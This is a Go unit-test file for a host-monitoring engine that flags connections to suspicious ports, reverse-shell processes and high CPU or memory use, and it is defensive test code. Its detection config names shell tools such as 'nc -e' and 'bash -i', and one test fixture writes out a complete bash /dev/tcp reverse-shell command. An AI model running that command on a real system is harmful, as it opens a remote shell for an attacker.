package monitor

import (
	"bastion/core"
	"bastion/util/goroutine"
	"context"
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
)

type fakeProbe struct {
	cpu     float64
	mem     float64
	conns   []Connection
	procs   []Process
	procErr error
}

func (p *fakeProbe) CPUPercent(context.Context) (float64, error)    { return p.cpu, nil }
func (p *fakeProbe) MemoryPercent(context.Context) (float64, error) { return p.mem, nil }
func (p *fakeProbe) Connections(context.Context) ([]Connection, error) {
	return p.conns, nil
}
func (p *fakeProbe) Processes(context.Context) ([]Process, error) {
	return p.procs, p.procErr
}

type fakeStore struct {
	mu      sync.Mutex
	attacks []core.AttackEvent
	events  []string
	err     error
}

func (f *fakeStore) RecordAttackEvent(_ context.Context, e core.AttackEvent) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.err != nil {
		return f.err
	}
	f.attacks = append(f.attacks, e)
	return nil
}

func (f *fakeStore) RecordSystemEvent(_ context.Context, eventType, payload string, sev core.Severity) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.err != nil {
		return f.err
	}
	f.events = append(f.events, fmt.Sprintf("%s %s: %s", sev, eventType, payload))
	return nil
}

func (f *fakeStore) eventList() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string(nil), f.events...)
}

func defaultConfig() Config {
	return Config{
		SuspiciousPorts: []int{4444, 5555, 6666, 1337},
		ProcessPatterns: []string{`bash -i`, `nc -e`, `/bin/sh`, `socket\.socket`},
		CPUThreshold:    90,
		MemoryThreshold: 90,
	}
}

func newEngine(t *testing.T, store *fakeStore, probe Probe) *Engine {
	t.Helper()
	e, err := NewEngine(store, probe, defaultConfig(), zap.NewNop().Sugar())
	require.NoError(t, err)
	return e
}

func TestNewEngineClampsInterval(t *testing.T) {
	cfg := defaultConfig()
	cfg.PollInterval = time.Second
	e, err := NewEngine(&fakeStore{}, &fakeProbe{}, cfg, zap.NewNop().Sugar())
	require.NoError(t, err)
	assert.Equal(t, MinPollInterval, e.Interval())
}

func TestNewEngineRejectsBadPattern(t *testing.T) {
	cfg := defaultConfig()
	cfg.ProcessPatterns = []string{"(a+)+*"}
	_, err := NewEngine(&fakeStore{}, &fakeProbe{}, cfg, zap.NewNop().Sugar())
	assert.Error(t, err)
}

func TestSuspiciousConnectionRecordedOnce(t *testing.T) {
	store := &fakeStore{}
	probe := &fakeProbe{conns: []Connection{
		{PID: 10, Status: StatusEstablished, RemoteIP: "203.0.113.5", RemotePort: 4444},
		{PID: 11, Status: "LISTEN", RemoteIP: "", RemotePort: 0},
		{PID: 12, Status: StatusEstablished, RemoteIP: "198.51.100.1", RemotePort: 443},
		{PID: 13, Status: "TIME_WAIT", RemoteIP: "203.0.113.6", RemotePort: 1337},
	}}
	e := newEngine(t, store, probe)

	f, err := e.PollOnce(context.Background())
	require.NoError(t, err)
	assert.Equal(t, 1, f.Connections)
	require.Len(t, store.attacks, 1)
	got := store.attacks[0]
	assert.Equal(t, "203.0.113.5", got.AttackerIP)
	assert.Equal(t, NetworkAttackType, got.AttackType)
	assert.Equal(t, TargetService, got.TargetService)
	assert.Equal(t, "Suspicious connection to port 4444", got.Payload)
	assert.Equal(t, SuspiciousConnectionRisk, got.RiskScore)

	f, err = e.PollOnce(context.Background())
	require.NoError(t, err)
	assert.Zero(t, f.Connections)
	assert.Len(t, store.attacks, 1)
}

func TestReverseShellPatternMatch(t *testing.T) {
	store := &fakeStore{}
	probe := &fakeProbe{procs: []Process{
		{PID: 100, Cmdline: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
		{PID: 101, Cmdline: "/usr/sbin/sshd -D"},
		{PID: 102, Cmdline: "python3 -c import socket.socket"},
	}}
	e := newEngine(t, store, probe)

	f, err := e.PollOnce(context.Background())
	require.NoError(t, err)
	assert.Equal(t, 2, f.Processes)
	assert.Equal(t, []string{
		"CRITICAL REVERSE_SHELL: Process 100 suspicious command: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"CRITICAL REVERSE_SHELL: Process 102 suspicious command: python3 -c import socket.socket",
	}, store.eventList())

	f, err = e.PollOnce(context.Background())
	require.NoError(t, err)
	assert.Zero(t, f.Processes)
}

func TestResourceThresholds(t *testing.T) {
	store := &fakeStore{}
	probe := &fakeProbe{cpu: 95.5, mem: 90}
	e := newEngine(t, store, probe)

	f, err := e.PollOnce(context.Background())
	require.NoError(t, err)
	assert.Equal(t, 1, f.Resources)
	assert.Equal(t, []string{"WARNING HIGH_CPU: CPU usage at 95.5%"}, store.eventList())

	probe.mem = 97.3
	_, err = e.PollOnce(context.Background())
	require.NoError(t, err)
	assert.Contains(t, store.eventList(), "WARNING HIGH_MEMORY: Memory usage at 97.3%")
	assert.Len(t, store.eventList(), 3)
}

func TestProbeErrorSkipsCheck(t *testing.T) {
	store := &fakeStore{}
	probe := &fakeProbe{procErr: errors.New("permission denied"), cpu: 99}
	e := newEngine(t, store, probe)

	f, err := e.PollOnce(context.Background())
	require.NoError(t, err)
	assert.Zero(t, f.Processes)
	assert.Equal(t, 1, f.Resources)
}

func TestStoreFailureEndsRun(t *testing.T) {
	store := &fakeStore{err: fmt.Errorf("failed to record: %w", core.ErrStoreUnavailable)}
	e := newEngine(t, store, &fakeProbe{cpu: 99})

	err := e.Run(context.Background())
	assert.True(t, errors.Is(err, core.ErrStoreUnavailable))
}

func TestRunReturnsOnCancel(t *testing.T) {
	goroutine.AssertNoLeaks(t)
	store := &fakeStore{}
	e := newEngine(t, store, &fakeProbe{})

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- e.Run(ctx) }()

	require.Eventually(t, func() bool { return len(store.eventList()) == 1 }, time.Second, 5*time.Millisecond)
	assert.Contains(t, store.eventList()[0], "INFO MONITOR_START")

	cancel()
	select {
	case err := <-done:
		assert.NoError(t, err)
	case <-time.After(2 * time.Second):
		t.Fatal("Run did not return after cancel")
	}
}
